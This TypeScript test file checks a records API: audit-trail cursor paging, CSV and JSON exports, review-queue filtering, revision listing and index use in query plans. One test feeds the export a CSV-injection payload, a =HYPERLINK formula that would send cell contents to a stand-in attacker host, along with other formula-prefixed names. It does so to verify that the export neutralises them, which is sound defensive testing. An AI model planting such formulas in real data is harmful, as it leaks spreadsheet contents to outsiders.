/**
 * Reads that must stay correct as records grow, through HTTP on PostgreSQL and on the embedded database:
 * the audit trail's cursor pages, the streamed CSV/JSON downloads (and CSV formula neutralisation), the review
 * queue under superseded history, and the cursor-paged revision list. (Their cost is measured in bench/, not here.)
 */
import { DEFAULT_RULE_SET } from '@leadline/rules';
import { EmbeddedStatistics } from '../../apps/api/src/infra/database/statistics';
import { prepareSubmission } from '../../apps/api/src/records/record-store';
import { auditPageSql } from '../../apps/api/src/reviews/audit.service';
import { changedDesign, clearDesign, warningDesign } from '../support/designs';
import { BACKENDS, startTestApp, type TestApp } from '../support/harness';
import { appendRevisions } from '../support/seed-records';

/** A minimal RFC 4180 reader (quoted cells, doubled quotes, CRLF rows), written for this test. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length) throw new Error('CSV does not end with CRLF');
  return rows;
}

describe.each(BACKENDS)('growth-safe reads on %s', (backend) => {
  let t: TestApp;
  let productId: string;
  let longCalc: string;
  const longRevisions = 12;

  beforeAll(async () => {
    t = await startTestApp(backend);
    productId = (await t.call('POST', '/api/v1/products', { code: `GR-${backend}`, name: 'Growth test rig (test product)' })).body.id;
    const opened = await t.call('POST', `/api/v1/products/${productId}/calculations`, { title: 'Long history', design: clearDesign });
    expect([opened.status, opened.status === 201 ? null : opened.body]).toEqual([201, null]);
    longCalc = opened.body.calculationId;
    for (let i = 2; i <= longRevisions; i++) {
      const r = await t.call('POST', `/api/v1/calculations/${longCalc}/revisions`, { design: i % 2 ? clearDesign : warningDesign, note: `change ${i}` });
      expect([r.status, r.status === 201 ? null : r.body]).toEqual([201, null]);
    }
    await t.call('POST', `/api/v1/revisions/${opened.body.revisionId}/comments`, { text: 'first look' }, { as: 'reviewer' });
  }, 60_000);
  afterAll(() => t?.close());

  it('pages the audit trail by cursor with no gap or repeat, equal to one large page [GET /api/v1/products/:id/audit]', async () => {
    const whole = await t.call('GET', `/api/v1/products/${productId}/audit?limit=500`);
    expect(whole.status).toBe(200);
    expect(whole.body.nextCursor).toBeNull();
    const n = whole.body.items.length;
    // product-registered, calculation-opened, then (revision, revision-submitted) per revision, then the comment
    expect(n).toBe(2 + 2 * longRevisions + 1);
    expect(whole.body.items.map((e: { seq: number }) => e.seq)).toEqual(Array.from({ length: n }, (_, i) => i + 1));

    for (const limit of [1, 4, 7]) {
      const paged: unknown[] = [];
      let after = 0;
      let pages = 0;
      for (;;) {
        const page = await t.call('GET', `/api/v1/products/${productId}/audit?limit=${limit}&after=${after}`);
        expect(page.status).toBe(200);
        expect(page.body.items.length).toBeLessThanOrEqual(limit);
        paged.push(...page.body.items);
        pages++;
        if (page.body.nextCursor === null) break;
        expect(page.body.nextCursor).toBe(page.body.items[page.body.items.length - 1].seq);
        after = page.body.nextCursor;
      }
      expect(pages).toBe(Math.ceil(n / limit));
      expect(paged).toEqual(whole.body.items);
    }
    // A cursor deep in the trail starts right after it
    const deep = await t.call('GET', `/api/v1/products/${productId}/audit?limit=3&after=${n - 2}`);
    expect(deep.body.items.map((e: { seq: number }) => e.seq)).toEqual([n - 1, n]);
    expect(deep.body.nextCursor).toBeNull();
  });

  it('streams downloads that hold exactly every entry of the trail [GET /api/v1/products/:id/audit?format=csv|json]', async () => {
    const whole = (await t.call('GET', `/api/v1/products/${productId}/audit?limit=500`)).body.items;
    const json = await t.call('GET', `/api/v1/products/${productId}/audit?format=json`);
    expect(json.status).toBe(200);
    expect(json.headers['content-type']).toMatch(/application\/json/);
    expect(json.headers['content-disposition']).toBe(`attachment; filename="audit-GR-${backend}.json"`);
    expect(json.body.product).toMatchObject({ id: productId, code: `GR-${backend}` });
    expect(json.body.entries).toEqual(whole);

    const csv = await t.call('GET', `/api/v1/products/${productId}/audit?format=csv`);
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    const rows = parseCsv(csv.text);
    expect(rows[0]).toEqual(['seq', 'time', 'kind', 'type', 'actor', 'calculation_id', 'revision_id', 'revision', 'verdict', 'blocking', 'warning', 'info', 'summary', 'hash', 'previous_hash']);
    expect(rows.slice(1).map((r) => [Number(r[0]), r[3], r[13], r[14] || null])).toEqual(whole.map((e: { seq: number; type: string; hash: string; previousHash: string | null }) => [e.seq, e.type, e.hash, e.previousHash]));
  });

  it('neutralises a spreadsheet formula in an actor name (CSV injection) [GET /api/v1/products/:id/audit?format=csv]', async () => {
    const attack = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click for details")';
    const others = ['+SUM(1,2)', '-2+3', '@SUM(A1)', '\tTAB(1)', '\rCR(1)'];
    const product = (await t.call('POST', '/api/v1/products', { code: `CSV-${backend}`, name: 'Injection target (test product)' })).body.id;
    for (const name of [attack, ...others]) {
      const user = await t.call('POST', '/api/v1/users', { name, roles: ['author'] }, { as: 'admin' });
      expect(user.status).toBe(201);
      const token = (await t.call('POST', `/api/v1/users/${user.body.id}/tokens`, {}, { as: 'admin' })).body.token;
      const opened = await t.call('POST', `/api/v1/products/${product}/calculations`, { title: 'by a hostile name', design: clearDesign }, {
        as: 'anonymous', headers: { authorization: `Bearer ${token}` },
      });
      expect(opened.status).toBe(201);
    }
    const csv = await t.call('GET', `/api/v1/products/${product}/audit?format=csv`, undefined, { as: 'reviewer' });
    expect(csv.text).not.toMatch(/(^|,|\r\n)=HYPERLINK/);
    const actors = parseCsv(csv.text).slice(1).map((r) => r[4]).filter((a) => a !== '' && !a.includes('(test)') && !a.includes('Administrator'));
    // Each hostile name appears as text: the apostrophe stops a spreadsheet from evaluating it, the rest is kept
    for (const name of [attack, ...others]) expect(actors).toContain(`'${name}`);
    for (const a of actors) expect(a.startsWith("'")).toBe(true);
    // The raw cell is quoted too, so the leading apostrophe and the formula stay one cell
    expect(csv.text).toContain(`"'=HYPERLINK(""http://attacker.invalid/?leak=""&A1,""Click for details"")"`);
    // Ordinary values are untouched
    const rows = parseCsv(csv.text);
    expect(rows[1][0]).toBe('1');
  });

  it('lists only the latest revision of each calculation, whatever its superseded history [GET /api/v1/reviews/queue]', async () => {
    const product = (await t.call('POST', '/api/v1/products', { code: `Q-${backend}`, name: 'Queue rig (test product)' })).body.id;
    // a: 15 revisions, the last awaiting; b: one revision, approved; c: two revisions, the last withdrawn; d: one awaiting, by another author
    const a = await t.call('POST', `/api/v1/products/${product}/calculations`, { title: 'a', design: clearDesign });
    let aLatest = a.body.revisionId;
    for (let i = 2; i <= 15; i++) aLatest = (await t.call('POST', `/api/v1/calculations/${a.body.calculationId}/revisions`, { design: changedDesign(clearDesign, i), note: `a ${i}` })).body.revisionId;
    const b = await t.call('POST', `/api/v1/products/${product}/calculations`, { title: 'b', design: clearDesign });
    expect((await t.call('POST', `/api/v1/revisions/${b.body.revisionId}/decisions`, { decision: 'approve' }, { as: 'reviewer' })).status).toBe(201);
    const c = await t.call('POST', `/api/v1/products/${product}/calculations`, { title: 'c', design: clearDesign });
    const c2 = await t.call('POST', `/api/v1/calculations/${c.body.calculationId}/revisions`, { design: changedDesign(clearDesign, 2) });
    expect((await t.call('POST', `/api/v1/revisions/${c2.body.revisionId}/withdraw`, {})).status).toBe(200);
    const d = await t.call('POST', `/api/v1/products/${product}/calculations`, { title: 'd', design: warningDesign }, { as: 'author2' });

    const queue = await t.call('GET', `/api/v1/reviews/queue?productId=${product}`, undefined, { as: 'reviewer' });
    expect(queue.status).toBe(200);
    expect(queue.body.items.map((i: { revisionId: string }) => i.revisionId)).toEqual([aLatest, d.body.revisionId]);
    expect(queue.body.items[0]).toMatchObject({ calculationId: a.body.calculationId, revision: 15, state: 'submitted', title: 'a', productCode: `Q-${backend}` });
    expect((await t.call('GET', `/api/v1/reviews/queue?productId=${product}&limit=1`, undefined, { as: 'reviewer' })).body.items.map((i: { revisionId: string }) => i.revisionId)).toEqual([aLatest]);
    expect((await t.call('GET', `/api/v1/reviews/queue?calculationId=${a.body.calculationId}`, undefined, { as: 'reviewer' })).body.items).toHaveLength(1);
    expect((await t.call('GET', `/api/v1/reviews/queue?calculationId=${c.body.calculationId}`, undefined, { as: 'reviewer' })).body.items).toEqual([]);
    expect((await t.call('GET', `/api/v1/reviews/queue?productId=${product}&verdict=needs-acknowledgement`, undefined, { as: 'reviewer' })).body.items.map((i: { revisionId: string }) => i.revisionId)).toEqual([d.body.revisionId]);
    expect((await t.call('GET', `/api/v1/reviews/queue?productId=${product}&authorId=${t.users.author2}`, undefined, { as: 'reviewer' })).body.items.map((i: { revisionId: string }) => i.revisionId)).toEqual([d.body.revisionId]);
    // A closure row forged without its decision event (pointing at the submission event) takes nothing out of the queue
    const [submitted] = await t.db.query<{ id: string }>(`SELECT id FROM events WHERE revision_id = $1 AND type = 'revision-submitted'`, [d.body.revisionId]);
    await t.db.query(`INSERT INTO revision_closures (revision_id, kind, event_id, actor_id) VALUES ($1, 'approved', $2, $3)`, [d.body.revisionId, submitted.id, t.users.reviewer]);
    expect((await t.call('GET', `/api/v1/reviews/queue?productId=${product}`, undefined, { as: 'reviewer' })).body.items.map((i: { revisionId: string }) => i.revisionId)).toEqual([aLatest, d.body.revisionId]);
    // Every item the queue shows is one a reviewer can decide: its own record says submitted
    for (const item of queue.body.items) expect((await t.call('GET', `/api/v1/revisions/${item.revisionId}`)).body.review.state).toBe('submitted');
  });

  it('pages revisions by cursor, full or as summaries [GET /api/v1/calculations/:id/revisions]', async () => {
    const all = await t.call('GET', `/api/v1/calculations/${longCalc}/revisions`);
    expect(all.status).toBe(200);
    expect(all.body.nextCursor).toBeNull();
    expect(all.body.items.map((r: { revision: number }) => r.revision)).toEqual(Array.from({ length: longRevisions }, (_, i) => i + 1));

    const pages: number[][] = [];
    let after = 0;
    const full: unknown[] = [];
    for (;;) {
      const page = await t.call('GET', `/api/v1/calculations/${longCalc}/revisions?limit=5&after=${after}`);
      pages.push(page.body.items.map((r: { revision: number }) => r.revision));
      full.push(...page.body.items);
      if (page.body.nextCursor === null) break;
      after = page.body.nextCursor;
    }
    expect(pages).toEqual([[1, 2, 3, 4, 5], [6, 7, 8, 9, 10], [11, 12]]);
    expect(full).toEqual(all.body.items);
    // Items keep every field of the single-revision route, review state included (but its input in words, inputFields)
    const one = await t.call('GET', `/api/v1/revisions/${all.body.items[4].id}`);
    const { inputFields, ...asListed } = one.body;
    expect(inputFields.length).toBeGreaterThan(10);
    expect(all.body.items[4]).toEqual(asListed);
    expect(all.body.items.map((r: { review: { state: string } }) => r.review.state)).toEqual([...Array(longRevisions - 1).fill('superseded'), 'submitted']);

    const summaries = await t.call('GET', `/api/v1/calculations/${longCalc}/revisions?view=summary&limit=3&after=8`);
    expect(summaries.status).toBe(200);
    expect(summaries.body.nextCursor).toBe(11);
    expect(summaries.body.items.map((r: { revision: number }) => r.revision)).toEqual([9, 10, 11]);
    const tail = await t.call('GET', `/api/v1/calculations/${longCalc}/revisions?view=summary&limit=3&after=11`);
    expect(tail.body.nextCursor).toBeNull();
    const s = tail.body.items[0];
    expect(Object.keys(s).sort()).toEqual(['author', 'calculationId', 'createdAt', 'hash', 'id', 'note', 'previousHash', 'review', 'revision', 'verdict'].sort());
    const latest = all.body.items[11];
    expect(s).toEqual({
      id: latest.id, calculationId: longCalc, revision: 12, verdict: latest.verdict, author: latest.author, note: 'change 12',
      createdAt: latest.createdAt, hash: latest.hash, previousHash: latest.previousHash, review: latest.review,
    });
    const last = await t.call('GET', `/api/v1/calculations/${longCalc}/revisions?view=summary&limit=4&after=12`);
    expect(last.body).toEqual({ items: [], nextCursor: null });

    for (const [query, path] of [['limit=0', 'limit'], ['limit=501', 'limit'], ['after=-1', 'after'], ['view=everything', 'view']]) {
      const bad = await t.call('GET', `/api/v1/calculations/${longCalc}/revisions?${query}`);
      expect(bad.status).toBe(422);
      expect(bad.body.errors.map((e: { path: string }) => e.path)).toContain(path);
    }
  });
});

/** The plan text of a query (EXPLAIN, no execution), one line per node. */
async function plan(t: TestApp, sql: string, params: unknown[]): Promise<string> {
  const rows = await t.db.query<Record<string, string>>(`EXPLAIN ${sql}`, params);
  return rows.map((r) => r['QUERY PLAN']).join('\n');
}

describe.each(BACKENDS)('audit page plan on a long chain on %s', (backend) => {
  let t: TestApp;
  let productId: string;
  const appended = 3000;

  beforeAll(async () => {
    t = await startTestApp(backend);
    productId = (await t.call('POST', '/api/v1/products', { code: `PLAN-${backend}`, name: 'Plan rig (test product)' })).body.id;
    const opened = await t.call('POST', `/api/v1/products/${productId}/calculations`, { title: 'long chain', design: clearDesign });
    expect(opened.status).toBe(201);
    // Grown through the record functions the service uses (RecordStore.appendRevision), in one transaction
    const s = prepareSubmission({ input: { grown: true }, normalized: {}, evaluation: {}, findings: [], verdict: 'clear', engineVersion: '1', ruleSetVersion: DEFAULT_RULE_SET.version, note: 'grown' });
    await appendRevisions(t, opened.body.calculationId, appended, s);
  }, 120_000);
  afterAll(() => t?.close());

  it('reads two (product_id, seq) indexes from the cursor and merges them, with no sort of the trail, once statistics are current', async () => {
    if (backend === 'pglite') {
      // The embedded database has no autovacuum: the service keeps its statistics current itself
      // (its timer may have analyzed already; either way, afterwards the estimates hold the grown chain)
      await t.app.get(EmbeddedStatistics).refresh();
      expect(await t.app.get(EmbeddedStatistics).refresh()).toBe(false);
      const [est] = await t.db.query<{ n: number }>(`SELECT reltuples::int AS n FROM pg_class WHERE oid = 'revisions'::regclass`);
      expect(est.n).toBeGreaterThanOrEqual(appended);
    } else {
      await t.db.query('ANALYZE revisions');
      await t.db.query('ANALYZE events');
    }
    for (const after of [0, appended]) {
      const text = await plan(t, auditPageSql(false), [productId, after, 101]);
      expect(text).toMatch(/Merge Append/);
      expect(text).toMatch(/Index Scan using revisions_seq_unique on revisions/);
      expect(text).toMatch(/Index Scan using events_seq_unique on events/);
      expect(text).not.toMatch(/Sort\b(?! Key)/);
      expect(text).not.toMatch(/Seq Scan|Bitmap/);
    }
    // The page it plans is the right one
    const page = await t.call('GET', `/api/v1/products/${productId}/audit?limit=5&after=${2 * appended}`);
    expect(page.body.items.map((e: { seq: number }) => e.seq)).toEqual([2 * appended + 1, 2 * appended + 2, 2 * appended + 3, 2 * appended + 4]);
    expect((await t.call('GET', `/api/v1/products/${productId}/verify`)).body).toMatchObject({ valid: true, links: 2 * appended + 4 });
  });
});
